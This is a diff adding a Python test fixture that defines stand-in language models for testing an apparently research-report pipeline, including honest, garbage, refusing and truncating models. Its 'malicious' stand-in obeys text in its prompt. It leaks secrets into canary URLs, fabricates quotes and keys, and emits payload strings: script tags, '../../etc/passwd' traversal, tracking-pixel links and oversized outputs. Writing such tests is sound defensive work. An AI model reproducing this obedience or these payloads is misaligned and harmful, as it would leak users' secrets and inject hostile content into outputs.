@@ -1,0 +1,237 @@
+"""The other models: one that obeys whoever speaks to it, and those whose replies are of no use."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Callable
+from dataclasses import dataclass, replace
+from random import Random
+from typing import Any
+
+from tests.standin import honest
+from tests.standin.charges import tokens_in
+from tests.standin.fit import Filler, Fitter
+from tests.standin.poison import FALSEHOOD
+from tests.standin.prompt import Prompt
+
+MANY = 10_000
+REFUSAL = "I'm sorry, but I can't help with that request."
+_SECRET = re.compile(
+    r"\b(?:sk|tvly|pk|ghp|xoxb|AKIA)[-_A-Za-z0-9]{8,}"
+    r"|\b(?:api[_ -]?key|token|password|secret)\b\s*[:=]\s*['\"]?([^\s'\"]{6,})"
+    r"|\b[A-Za-z0-9_-]*canary[A-Za-z0-9_-]*secret[A-Za-z0-9_-]*",
+    re.I,
+)
+_TOLD = re.compile(r"https?://[^\s\"'<>)]+/canary/[^\s\"'<>)]+")
+_WORDS = ("lorem", "ipsum", "dolor", "sit", "amet", "consectetur", "elit", "tempor", "labore", "magna", "aliqua")
+
+
+@dataclass(frozen=True, slots=True)
+class Said:
+    """What a model replies: the text, or a refusal; how it ended; and whether under another name than asked for."""
+
+    content: str
+    refusal: str | None = None
+    finish: str = "stop"
+    model: str = ""
+
+
+@dataclass(frozen=True, slots=True)
+class Setting:
+    """What a model has besides its prompt: its chance, its server's address, the secrets it has seen, ``max_tokens``."""
+
+    chance: Random
+    base: str
+    secrets: tuple[str, ...] = ()
+    most: int = 1 << 30
+
+
+def secrets_in(text: str) -> tuple[str, ...]:
+    """Return what looks like a secret in a text."""
+    return tuple(dict.fromkeys(found[1] or found[0] for found in _SECRET.finditer(text)))
+
+
+def say(kind: str, prompt: Prompt, setting: Setting) -> Said:
+    """Return what the model of that kind replies."""
+    return KINDS[kind](prompt, setting)
+
+
+def _dumped(value: Any) -> str:
+    return json.dumps(value, ensure_ascii=False)
+
+
+def _fitted(prompt: Prompt, ideal: Any, filler: Filler, *, bounded: bool = True) -> Any:
+    return Fitter(prompt.schema, filler, bounded).fit(ideal) if prompt.schema else ideal
+
+
+def _plain(name: str, kind: str) -> Any:
+    return {"string": "", "number": 0.5, "integer": 0, "boolean": False}.get(kind)
+
+
+def honest_model(prompt: Prompt, setting: Setting) -> Said:
+    """Does what it is asked; without a schema or a rule it answers in a sentence."""
+    if not prompt.schema and prompt.name not in honest.RULES:
+        return Said("The prompt asks for nothing that this model knows how to give.")
+    return Said(_dumped(_fitted(prompt, honest.answer(prompt), _plain)))
+
+
+# ---- malicious -------------------------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True, slots=True)
+class Evil:
+    """What the malicious model works with: where it sends people, what it leaks, and how many of each thing it asks for."""
+
+    prompt: Prompt
+    url: str
+    leak: str
+    many: int
+
+
+def malicious(prompt: Prompt, setting: Setting) -> Said:
+    """Does what any text in its prompt tells it: leaks, invents quotes and keys, names addresses, asks for as much as fits."""
+    leak = "&".join(setting.secrets) or "no-secret-seen"
+    told = _TOLD.search(prompt.text)
+    url = told[0].replace("SECRETS", leak) if told else f"{setting.base}/canary/model?leak={leak}"
+    greedy = (_wished(Evil(prompt, url, leak, many)) for many in (MANY, 1_000, 100, 20, 5, 1))
+    said = ""
+    for said in greedy:
+        if tokens_in(said) <= setting.most:
+            break
+    return Said(said)
+
+
+def _wished(evil: Evil) -> str:
+    wish = _WISHES.get(evil.prompt.name)
+    ideal = {**honest.answer(evil.prompt), **(wish(evil) if wish else {})}
+
+    def filler(name: str, kind: str) -> Any:
+        return {"string": f"{FALSEHOOD} {evil.url}", "number": 1e9, "integer": MANY, "boolean": True}.get(kind)
+
+    return _dumped(_fitted(evil.prompt, ideal, filler, bounded=False))
+
+
+def _searches(evil: Evil) -> dict[str, Any]:
+    queries = [f"{evil.url}&n={at}" if at % 2 else f"{evil.leak} {at}" for at in range(evil.many)]
+    return {"reasoning": f"I obey. {evil.leak}", "queries": queries}
+
+
+def _findings(evil: Evil) -> dict[str, Any]:
+    true = honest.observation(evil.prompt)["findings"]
+    bent = [{**finding, "quote": re.sub(r"\d", "9", finding["quote"]) + " indeed"} for finding in true]
+    false = {"claim": FALSEHOOD, "quote": FALSEHOOD, "question": evil.url, "relevance": "high"}
+    return {"findings": [false, {**false, "claim": evil.leak, "quote": f"The key is {evil.leak}."}, *bent]}
+
+
+def _sections(evil: Evil) -> dict[str, Any]:
+    title = f"[[{evil.url}]] <% {evil.leak} %> ../../etc/passwd"
+    bad = {"title": title, "purpose": evil.url, "evidence": ["E999", *evil.prompt.keys]}
+    return {"title": f"<script>{evil.leak}</script>", "sections": [bad] * min(evil.many, 50)}
+
+
+def _sentences(evil: Evil) -> dict[str, Any]:
+    link = f"See [[obsidian://open?x={evil.leak}]] and {evil.url} [E999]."
+    texts = (FALSEHOOD, f"![pixel]({evil.url})", f"<script src='{evil.url}'></script>", link)
+    false = [{"text": text, "evidence": ["E999", *evil.prompt.keys[:1]]} for text in texts]
+    return {"paragraphs": [{"sentences": [*false, {"text": FALSEHOOD, "evidence": []}]}]}
+
+
+def _all_true(evil: Evil) -> dict[str, Any]:
+    found = [{"sentence": key, "supported": True, "reason": evil.url} for key, _ in evil.prompt.checked]
+    return {"verdicts": [*found, {"sentence": f"T{MANY}", "supported": True, "reason": evil.leak}]}
+
+
+def _points(evil: Evil) -> dict[str, Any]:
+    questions = [f"What is at {evil.url}?"] * min(evil.many, 100)
+    bad = {"name": f"../{evil.leak}", "focus": evil.url, "questions": questions, "keywords": [evil.leak]}
+    return {"perspectives": [bad] * min(evil.many, 200)}
+
+
+def _everything_corroborated(evil: Evil) -> dict[str, Any]:
+    keys = [*evil.prompt.keys, "E999"]
+    return {"entries": [{"evidence": key, "borne_out_by": keys, "confidence": "high"} for key in keys]}
+
+
+def _open(evil: Evil) -> dict[str, Any]:
+    question = f"What is at {evil.url}?"
+    gap = {"question": question, "importance": "high", "reason": evil.leak, "perspective": "P999"}
+    keys = [key for key in evil.prompt.asked.values() if key]
+    return {"gaps": [gap] * evil.many, "open_questions": [*keys, *[question] * evil.many], "reason": evil.leak}
+
+
+def _condensed(evil: Evil) -> dict[str, Any]:
+    return {"mode": "deep", "summary": f"{FALSEHOOD} {evil.url} {evil.leak} " * evil.many}
+
+
+_WISHES: dict[str, Callable[[Evil], dict[str, Any]]] = {
+    "perspectives": _points,
+    "thought": _searches,
+    "observation": _findings,
+    "evaluation": _open,
+    "validation": _everything_corroborated,
+    "gaps": _open,
+    "outline": _sections,
+    "section": _sentences,
+    "claim_check": _all_true,
+    "fold": _condensed,
+}
+
+
+# ---- useless ---------------------------------------------------------------------------------------------------
+
+
+def garbage(prompt: Prompt, setting: Setting) -> Said:
+    """Fits the schema and means nothing."""
+
+    def noise(name: str, kind: str) -> Any:
+        words = " ".join(setting.chance.choices(_WORDS, k=6))
+        return {"string": words, "number": setting.chance.random(), "integer": setting.chance.randint(0, 9)}.get(kind, True)
+
+    empty = {name: [None] * setting.chance.randint(1, 3) for name in (prompt.schema.get("properties") or {})}
+    return Said(_dumped(_fitted(prompt, empty, noise)))
+
+
+def refusing(prompt: Prompt, setting: Setting) -> Said:
+    """Will not: half of the time in the ``refusal`` field, half of the time in plain words."""
+    if setting.chance.random() < 0.5:
+        return Said("", refusal=REFUSAL)
+    return Said(REFUSAL)
+
+
+def truncating(prompt: Prompt, setting: Setting) -> Said:
+    """Stops for length in the middle of the answer."""
+    whole = honest_model(prompt, setting)
+    return replace(whole, content=whole.content[: len(whole.content) // 2], finish="length")
+
+
+def prose(prompt: Prompt, setting: Setting) -> Said:
+    """Knows the answer and wraps it up: a fence, words around it, trailing commas, single quotes, bare keys."""
+    content = honest_model(prompt, setting).content
+    return Said(setting.chance.choice(WRAPPINGS)(content))
+
+
+WRAPPINGS: tuple[Callable[[str], str], ...] = (
+    lambda content: f"```json\n{content}\n```",
+    lambda content: f"Sure! Here is the JSON you asked for:\n\n```json\n{content}\n```\n\nLet me know if you need more.",
+    lambda content: f"Here it is: {content}",
+    lambda content: content[:-1] + ",}",
+    lambda content: re.sub(r'"(\w+)":', r"\1:", content),
+    lambda content: content.replace('"', "'"),
+)
+
+
+def swapped(prompt: Prompt, setting: Setting) -> Said:
+    """Answers well, under another name."""
+    return replace(honest_model(prompt, setting), model="standin/other-model")
+
+
+KINDS: dict[str, Callable[[Prompt, Setting], Said]] = {
+    "honest": honest_model,
+    "malicious": malicious,
+    "garbage": garbage,
+    "refusing": refusing,
+    "truncating": truncating,
+    "prose": prose,
+    "swapped": swapped,
+}
